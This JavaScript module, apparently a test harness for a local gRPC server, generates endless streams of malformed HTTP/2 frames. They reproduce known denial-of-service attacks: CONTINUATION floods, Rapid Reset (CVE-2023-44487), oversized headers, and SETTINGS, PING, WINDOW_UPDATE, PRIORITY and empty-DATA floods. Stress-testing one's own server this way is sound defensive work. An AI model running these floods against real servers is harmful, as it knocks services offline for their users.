/** What may be sent over HTTP/2 by who keeps to none of its rules. Each yields bytes for one connection, for as long as they are taken. */

export const preface = Buffer.concat([
  Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
  Buffer.from('000000040000000000', 'hex'),
]);

const types = { data: 0, headers: 1, priority: 2, reset: 3, settings: 4, ping: 6, windowUpdate: 8, continuation: 9 };
const endStream = 1;
const endHeaders = 4;
const batch = 200;

function frame(type, flags, stream, body = Buffer.alloc(0)) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(body.length, 0, 3);
  head.writeUInt8(types[type], 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, body]);
}

/** A text of HPACK, as it is; the length is below 127, or takes two more bytes. */
function text(value) {
  const bytes = Buffer.from(value);
  if (bytes.length < 127) return Buffer.concat([Buffer.of(bytes.length), bytes]);
  const rest = bytes.length - 127;
  return Buffer.concat([Buffer.of(127, (rest & 127) | 128, rest >> 7), bytes]);
}

const literal = (name, value) => Buffer.concat([Buffer.of(0), text(name), text(value)]);

/** The headers of a call that anybody may make. */
const call = Buffer.concat([
  Buffer.of(0x83, 0x86, 0x04),
  text('/moot.v1.CommunityService/Describe'),
  Buffer.of(0x01),
  text('localhost'),
  literal('content-type', 'application/grpc'),
  literal('te', 'trailers'),
]);

const uint32 = (value) => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};

const many = (count, make) => Buffer.concat(Array.from({ length: count }, (_, at) => make(at)));

export const attacks = {
  /** Headers that never end (CVE-2024-27316 and its kin). */
  *continuations() {
    yield frame('headers', 0, 1, call);
    for (;;) yield many(batch, (at) => frame('continuation', 0, 1, literal(`x-${at}`, 'y'.repeat(100))));
  },
  *'empty continuations'() {
    yield frame('headers', 0, 1, call);
    for (;;) yield many(batch, () => frame('continuation', 0, 1));
  },
  /** Calls that are taken back at once (CVE-2023-44487). */
  *resets() {
    for (let stream = 1; ; stream += 2 * batch)
      yield many(batch, (at) =>
        Buffer.concat([
          frame('headers', endHeaders | endStream, stream + 2 * at, call),
          frame('reset', 0, stream + 2 * at, uint32(8)),
        ]),
      );
  },
  /** More headers than any call has, each time anew. */
  *'large headers'() {
    for (let stream = 1; ; stream += 2) {
      yield frame('headers', 0, stream, call);
      for (let part = 0; part < 7; part += 1)
        yield frame('continuation', part === 6 ? endHeaders : 0, stream, literal(`x-${part}`, 'y'.repeat(16_000)));
    }
  },
  *settings() {
    for (;;) yield many(batch, () => frame('settings', 0, 0, Buffer.from('000300000064', 'hex')));
  },
  *'settings of many'() {
    const all = many(2700, (at) => Buffer.concat([Buffer.of(0xf0, at & 255), uint32(at)]));
    for (;;) yield frame('settings', 0, 0, all);
  },
  *pings() {
    for (;;) yield many(batch, () => frame('ping', 0, 0, Buffer.alloc(8)));
  },
  *'window updates'() {
    for (;;) yield many(batch, () => frame('windowUpdate', 0, 0, uint32(1)));
  },
  *'windows that overflow'() {
    for (;;) yield many(batch, () => frame('windowUpdate', 0, 0, uint32(0x7fffffff)));
  },
  *'windows of nothing'() {
    yield frame('headers', endHeaders, 1, call);
    for (;;) yield many(batch, () => frame('windowUpdate', 0, 1, uint32(0)));
  },
  *priorities() {
    for (;;) yield many(batch, (at) => frame('priority', 0, 1 + 2 * at, Buffer.from('0000000010', 'hex')));
  },
  *'empty data'() {
    yield frame('headers', endHeaders, 1, call);
    for (;;) yield many(batch, () => frame('data', 0, 1));
  },
};
